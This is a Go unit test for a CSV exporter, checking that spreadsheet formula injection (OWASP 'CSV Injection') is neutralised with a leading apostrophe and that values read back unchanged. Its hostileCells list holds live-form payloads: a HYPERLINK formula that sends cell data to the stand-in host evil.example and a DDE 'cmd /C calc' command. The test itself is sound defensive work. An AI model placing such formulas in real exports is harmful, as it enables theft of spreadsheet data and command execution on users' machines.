package exporters

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/dealctl/dealctl/internal/api"
	"github.com/dealctl/dealctl/internal/sheets"
)

// hostileCells are texts a spreadsheet would run as formulas, and texts
// that look like the guard itself, which must survive the round trip.
var hostileCells = []string{
	`=HYPERLINK("https://evil.example/?d="&A1,"Click")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1,2)",
	"\t=1+1",
	"'=already guarded",
	"'Twas a plain title",
}

// TestWriteCSVNeutralisesFormulas: every cell a spreadsheet would run is
// written behind an apostrophe (OWASP "CSV Injection"), and ReadCSV reads
// each back to the text it was, so a re-import changes nothing.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	e := sampleExport()
	e.Messages = nil
	var rows []api.DealRequest
	for i, h := range hostileCells {
		r := e.Rows[1]
		r.ID = "hostile-" + string(rune('a'+i))
		r.Number = "1." + string(rune('2'+i))
		r.Title = strings.ReplaceAll(h, "\t", " ") // titles are one line
		r.Body = h + "\nsecond line"
		r.Requester = ptr2(strings.TrimSpace(h))
		r.LatestAnswer = &api.AnswerPreview{Preview: h}
		rows = append(rows, r)
	}
	e.Rows = append(e.Rows[:1], rows...)
	var buf bytes.Buffer
	if err := WriteCSV(&buf, e, false); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: cell %q would run as a formula", Headers()[i], cell)
			}
		}
	}
	if got := recs[2][colLatest]; got != "'"+hostileCells[0] {
		t.Errorf("Latest answer cell = %q, want the answer behind an apostrophe", got)
	}
	if got := recs[7][colTitle]; got != "''=already guarded" {
		t.Errorf("a title starting with an apostrophe = %q, want one more in front", got)
	}
	if got := recs[8][colTitle]; got != "'Twas a plain title" {
		t.Errorf("a plain title = %q, want it as it is", got)
	}

	s, err := sheets.ReadCSV("export.csv", buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Problems) != 0 {
		t.Fatalf("problems: %v", s.Problems)
	}
	for i, r := range s.Rows[1:] {
		want := rows[i]
		if r.Title != sheets.OneLine(want.Title) || r.Body != sheets.Text(want.Body) || r.Requester != sheets.OneLine(*want.Requester) {
			t.Errorf("row %d read back as title %q body %q requester %q, want %q %q %q",
				r.Line, r.Title, r.Body, r.Requester, want.Title, want.Body, *want.Requester)
		}
	}
}
